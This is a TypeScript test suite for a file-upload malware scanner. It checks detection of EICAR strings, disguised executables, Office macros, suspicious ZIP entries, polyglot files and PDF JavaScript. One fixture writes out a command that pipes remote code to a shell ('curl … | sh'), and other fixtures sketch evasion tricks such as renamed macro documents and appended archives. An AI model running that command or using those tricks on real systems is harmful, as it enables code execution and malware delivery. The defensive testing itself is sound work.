import crypto from 'node:crypto';
import { afterAll, describe, expect, it } from 'vitest';
import { EICAR, TestFiles, pdf, withMemoryPeak } from '../../../test/clamav/files.js';
import { buildZip, docxEntries } from '../../../test/clamav/zip.js';
import { BuiltInScanner, SCAN_READ_BYTES } from './builtin.js';

const files = new TestFiles();
const scanner = new BuiltInScanner();
afterAll(() => files.remove());

const hex = (s: string): Buffer => Buffer.from(s.replace(/\s+/g, ''), 'hex');

async function reasonOf(name: string, content: Buffer | string, s = scanner): Promise<string | null> {
  const verdict = await s.scan(files.write(name, content));
  return verdict.clean ? null : verdict.reason;
}

/** An OLE compound file header whose root directory entry carries `clsid`. */
function ole(clsid: Buffer): Buffer {
  const file = Buffer.alloc(1024);
  hex('d0cf11e0a1b11ae1').copy(file, 0);
  file.writeUInt16LE(0x3e, 0x18); // minor version
  file.writeUInt16LE(3, 0x1a); // major version 3: 512-byte sectors
  file.writeUInt16LE(0xfffe, 0x1c); // little-endian
  file.writeUInt16LE(9, 0x1e); // sector shift
  file.writeUInt32LE(0, 0x30); // first directory sector
  Buffer.from('Root Entry', 'utf16le').copy(file, 512);
  clsid.copy(file, 512 + 0x50);
  return file;
}

describe('BuiltInScanner: EICAR', () => {
  it('finds the test string in a .txt', async () => {
    expect(await reasonOf('eicar.txt', EICAR)).toBe('eicar_test_signature');
  });

  it.each([0, SCAN_READ_BYTES - 30, SCAN_READ_BYTES * 2 + 500 - 20, 1_000_003])('finds it anywhere in the file (offset %i, across read boundaries)', async (offset) => {
    const content = Buffer.alloc(offset + EICAR.length + 1000, 'a');
    content.write(EICAR, offset, 'latin1');
    expect(await reasonOf('notes.md', content)).toBe('eicar_test_signature');
  });

  it('finds it at the very end of a 20 MB file', async () => {
    expect(await scanner.scan(files.writeLarge('big.txt', 20, EICAR))).toEqual({ clean: false, reason: 'eicar_test_signature' });
  });
});

describe('BuiltInScanner: programs by magic number, whatever the name', () => {
  it.each([
    ['ELF', hex('7f454c46 02010100'), 'report.pdf'],
    ['PE', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), hex('80000000'), Buffer.alloc(64), Buffer.from('PE\0\0')]), 'report.pdf'],
    ['Mach-O 64', hex('cffaedfe 07000001'), 'notes.txt'],
    ['Mach-O big-endian', hex('feedface 00000007'), 'notes.txt'],
    ['Mach-O fat / Java class', hex('cafebabe 00000034'), 'data.json'],
    ['WebAssembly', hex('0061736d 01000000'), 'data.csv'],
    ['Windows shortcut', Buffer.concat([hex('4c000000 01140200 00000000 c0000000 00000046'), Buffer.alloc(60)]), 'readme.md'],
  ])('%s → executable', async (_label, content, name) => {
    expect(await reasonOf(name, content)).toBe('executable');
  });

  it('a shebang script → script', async () => {
    expect(await reasonOf('notes.txt', '#!/bin/sh\ncurl https://example.invalid | sh\n')).toBe('script');
  });

  it('an OLE compound file (legacy Office) → macro_enabled_office', async () => {
    expect(await reasonOf('old.docx', ole(hex('0609020000000000c000000000000046')))).toBe('macro_enabled_office');
  });

  it('a Windows Installer (OLE with the MSI CLSID) → executable', async () => {
    expect(await reasonOf('setup.pdf', ole(hex('84100c0000000000c000000000000046')))).toBe('executable');
  });
});

describe('BuiltInScanner: ZIP packages', () => {
  it('a clean docx → clean', async () => {
    expect(await reasonOf('clean.docx', buildZip(docxEntries()))).toBeNull();
  });

  it('a docx with printer settings (a harmless .bin part) → clean', async () => {
    const zip = buildZip([...docxEntries(), { name: 'word/printerSettings/printerSettings1.bin', data: Buffer.alloc(200, 1) }]);
    expect(await reasonOf('printer.docx', zip)).toBeNull();
  });

  it.each([
    ['word/vbaProject.bin', 'word/vbaProject.bin'],
    ['a VBA project elsewhere', 'customXml/vbaProject.bin'],
    ['an ActiveX part', 'word/activeX/activeX1.bin'],
    ['an embedded OLE object', 'word/embeddings/oleObject1.bin'],
  ])('a docx with %s → macro_enabled_office', async (_label, name) => {
    const zip = buildZip([...docxEntries(), { name, data: ole(Buffer.alloc(16)), deflate: true }]);
    expect(await reasonOf('macro.docx', zip)).toBe('macro_enabled_office');
  });

  it('a docx whose content types declare macros (docm renamed) → macro_enabled_office', async () => {
    const zip = buildZip(docxEntries('x', 'application/vnd.ms-word.document.macroEnabled.main+xml'));
    expect(await reasonOf('renamed.docx', zip)).toBe('macro_enabled_office');
  });

  it.each(['payload.exe', 'lib/evil.DLL', 'word/run.js', 'x.vbs', 'a/b.ps1', 'go.bat', 'go.cmd', 'screen.scr'])('an entry named %s → executable', async (name) => {
    const zip = buildZip([...docxEntries(), { name, data: 'MZ' }]);
    expect(await reasonOf('package.docx', zip)).toBe('executable');
  });

  it('an entry with the encryption flag → encrypted_archive', async () => {
    const zip = buildZip([...docxEntries(), { name: 'word/media/secret.xml', data: crypto.randomBytes(64), encrypted: true }]);
    expect(await reasonOf('locked.docx', zip)).toBe('encrypted_archive');
  });

  it('encryption flagged only in the local header still counts → encrypted_archive', async () => {
    const zip = buildZip([...docxEntries(), { name: 'word/media/secret.xml', data: crypto.randomBytes(64), encryptedLocalOnly: true }]);
    expect(await reasonOf('locked.docx', zip)).toBe('encrypted_archive');
  });

  it('more entries than the limit → unscannable_archive', async () => {
    const zip = buildZip(Array.from({ length: 12 }, (_, i) => ({ name: `word/part${i}.xml`, data: '<x/>' })));
    expect(await reasonOf('many.docx', zip, new BuiltInScanner({ maxZipEntries: 10 }))).toBe('unscannable_archive');
    expect(await reasonOf('many.docx', zip)).toBeNull();
  });

  it('a central directory over the size limit → unscannable_archive', async () => {
    const zip = buildZip(docxEntries());
    expect(await reasonOf('big-dir.docx', zip, new BuiltInScanner({ maxZipDirectoryBytes: 64 }))).toBe('unscannable_archive');
  });

  it('a truncated archive (no end record) → unscannable_archive', async () => {
    const zip = buildZip(docxEntries());
    expect(await reasonOf('cut.docx', zip.subarray(0, zip.length - 10))).toBe('unscannable_archive');
  });

  it('bytes after the end record → unscannable_archive', async () => {
    expect(await reasonOf('tail.docx', Buffer.concat([buildZip(docxEntries()), Buffer.from('MZ hidden payload')]))).toBe('unscannable_archive');
  });

  it('a directory entry whose local header names another file → unscannable_archive', async () => {
    const zip = buildZip(docxEntries());
    const at = zip.indexOf('word/document.xml'); // first occurrence: the local header
    zip.write('word/document.exe', at);
    expect(await reasonOf('mismatch.docx', zip)).toBe('unscannable_archive');
  });

  it('an archive comment is fine', async () => {
    expect(await reasonOf('comment.docx', buildZip(docxEntries(), { comment: 'made by a test' }))).toBeNull();
  });
});

describe('BuiltInScanner: polyglots and PDF script', () => {
  const zip = buildZip([{ name: 'payload.txt', data: 'hello' }]);

  it('a PDF with a ZIP appended → polyglot', async () => {
    expect(await reasonOf('doc.pdf', Buffer.concat([pdf(), zip]))).toBe('polyglot');
  });

  it('a PDF with only a ZIP end record appended → polyglot', async () => {
    expect(await reasonOf('doc.pdf', Buffer.concat([pdf(), zip.subarray(zip.length - 22)]))).toBe('polyglot');
  });

  it('a PDF whose header comes after other bytes (within 1024) with a ZIP → polyglot', async () => {
    expect(await reasonOf('doc.pdf', Buffer.concat([Buffer.from('<html><!-- '), pdf(), zip]))).toBe('polyglot');
  });

  it('a ZIP that is also a PDF (%PDF in its first bytes) → polyglot', async () => {
    const both = buildZip([{ name: 'a.pdf', data: pdf() }, ...docxEntries()]);
    expect(await reasonOf('both.docx', both)).toBe('polyglot');
  });

  it.each([
    ['PNG', hex('89504e470d0a1a0a 0000000d49484452')],
    ['JPEG', hex('ffd8ffe0 00104a46494600')],
    ['GIF', Buffer.from('GIF89a\x01\x00\x01\x00')],
  ])('a %s followed by a ZIP → polyglot', async (_label, image) => {
    expect(await reasonOf('image.bin', Buffer.concat([image, crypto.randomBytes(3000), zip]))).toBe('polyglot');
  });

  it.each([
    ['/JavaScript action', '5 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n'],
    ['/JS to a stream', '5 0 obj\n<< /S /JavaScript /JS 6 0 R >>\nendobj\n'],
    ['/JS only', '5 0 obj\n<</JS(app.alert\\(1\\))>>\nendobj\n'],
    ['an escaped name /J#53', '5 0 obj\n<< /S /Java#53cript /J#53 (x) >>\nendobj\n'],
  ])('a PDF with %s → pdf_javascript', async (_label, objects) => {
    expect(await reasonOf('script.pdf', pdf({ extraObjects: objects }))).toBe('pdf_javascript');
  });

  it('finds script after a megabyte of stream data', async () => {
    const objects = '5 0 obj\n<< /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj\n';
    expect(await reasonOf('late.pdf', pdf({ streamData: crypto.randomBytes(1024 * 1024), extraObjects: objects }))).toBe('pdf_javascript');
  });

  it('ignores script names and ZIP signatures that occur by chance in stream data', async () => {
    // Compressed data is arbitrary bytes: these must not be read as PDF syntax or as an archive.
    const data = Buffer.concat([crypto.randomBytes(5000), Buffer.from('/JS (x) /JavaScript PK\x03\x04\x99\x99 PK\x05\x06\x01\x00', 'latin1'), crypto.randomBytes(5000)]);
    expect(await reasonOf('binary.pdf', pdf({ streamData: data }))).toBeNull();
  });

  it('other names starting with J are fine', async () => {
    expect(await reasonOf('names.pdf', pdf({ extraObjects: '5 0 obj\n<< /JBIG2Globals 6 0 R /Justify /JSX >>\nendobj\n' }))).toBeNull();
  });
});

describe('BuiltInScanner: clean documents', () => {
  it.each([
    ['notes.txt', 'Plain text notes.\nSecond line: MZ in the middle is fine, and so is #! here.\n'],
    ['readme.md', '# Title\n\nSome *markdown* with `code` and a [link](https://example.com).\n'],
    ['page.html', '<!doctype html><html><head><title>t</title></head><body><p>Hello</p></body></html>\n'],
    ['table.csv', 'id,name,amount\n1,alpha,3.5\n2,beta,4\n'],
    ['data.json', '{"items":[{"id":1,"name":"alpha"}],"PK":"value"}\n'],
    ['empty.txt', ''],
    ['utf8.txt', '\ufeffÜnïcödé text — with a BOM.\n'],
  ])('%s → clean', async (name, content) => {
    expect(await reasonOf(name, content)).toBeNull();
  });

  it('a PDF → clean', async () => {
    expect(await reasonOf('doc.pdf', pdf())).toBeNull();
  });

  it('a 20 MB text file is streamed: clean, with flat memory', async () => {
    const target = files.writeLarge('big.txt', 20);
    const { result, peakGrowthBytes } = await withMemoryPeak(() => scanner.scan(target));
    expect(result).toEqual({ clean: true });
    expect(peakGrowthBytes).toBeLessThan(8 * 1024 * 1024);
  });
});

describe('BuiltInScanner: cancellation', () => {
  it('rejects with the signal reason when aborted', async () => {
    const target = files.writeLarge('big.txt', 5);
    const controller = new AbortController();
    const reason = new Error('stop');
    controller.abort(reason);
    await expect(scanner.scan(target, controller.signal)).rejects.toBe(reason);
  });

  it('stops mid-file when aborted during the scan', async () => {
    const target = files.writeLarge('big.txt', 20);
    await expect(scanner.scan(target, AbortSignal.timeout(1))).rejects.toThrow();
  });
});
